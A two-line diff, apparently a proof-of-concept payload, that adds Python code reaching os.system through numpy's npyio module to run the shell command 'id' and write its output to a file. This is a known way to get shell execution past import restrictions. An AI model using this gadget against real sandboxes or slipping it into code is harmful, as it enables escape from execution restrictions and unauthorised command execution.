@@ -1,0 +1,2 @@
+from numpy.lib import npyio
+npyio.os.system("id>pf")
